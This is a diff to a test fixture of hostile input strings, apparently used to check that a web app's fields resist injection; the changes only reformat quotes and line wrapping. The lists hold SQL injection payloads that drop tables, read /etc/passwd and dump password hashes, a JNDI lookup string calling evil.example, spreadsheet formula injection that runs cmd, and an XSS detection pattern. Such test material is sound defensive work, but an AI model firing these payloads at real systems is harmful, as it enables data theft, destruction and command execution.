@@ -13,7 +13,7 @@ const SQL = [
   '"; DROP TABLE claimants; --',
   "admin'--",
   "') UNION SELECT email, password_hash FROM users--",
-  "1; SELECT pg_sleep(10)--",
+  '1; SELECT pg_sleep(10)--',
   "'; COPY users TO PROGRAM 'id';--",
   "$$ || pg_read_file('/etc/passwd') || $$",
   "E'\\x27; DELETE FROM audit_log; --",
@@ -149,7 +149,7 @@ const NUMBERS_AND_FORMATS = [
   '\\x00\\u0000',
   '${jndi:ldap://evil.example/a}',
   '=HYPERLINK("https://evil.example","click")',
-  '+SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
   '@SUM(1+1)',
 ];
 
@@ -167,7 +167,9 @@ export const HOSTILE_TEXTS: HostileText[] = [
 ];
 
 /** A response that is HTML must never carry this unescaped: React escapes everything it renders. */
-export const UNESCAPED_XSS = new RegExp(`<script>alert\\("${XSS_MARKER}"\\)|<img src=x onerror=alert\\("${XSS_MARKER}"\\)|<svg/onload=alert\\("${XSS_MARKER}"\\)`);
+export const UNESCAPED_XSS = new RegExp(
+  `<script>alert\\("${XSS_MARKER}"\\)|<img src=x onerror=alert\\("${XSS_MARKER}"\\)|<svg/onload=alert\\("${XSS_MARKER}"\\)`,
+);
 
 /**
  * A sample of the texts for fields that take a choice, a number, a date or an id (their parser
@@ -177,7 +179,10 @@ export const UNESCAPED_XSS = new RegExp(`<script>alert\\("${XSS_MARKER}"\\)|<img
  */
 export const SAMPLE_TEXTS: HostileText[] = HOSTILE_TEXTS.filter((text, index) => {
   const isFirstOfCategory = HOSTILE_TEXTS.findIndex((other) => other.category === text.category) > index - 3;
-  const isExtreme = text.value.trim() === '' || text.value.length > 5_000 || /\u0000|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(text.value);
+  const isExtreme =
+    text.value.trim() === '' ||
+    text.value.length > 5_000 ||
+    /\u0000|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(text.value);
   const isTricky = text.value.includes('\r\n') || /^\d{6}-\d{7}$/.test(text.value) || text.value.startsWith('=');
   return isFirstOfCategory || isExtreme || isTricky;
 });
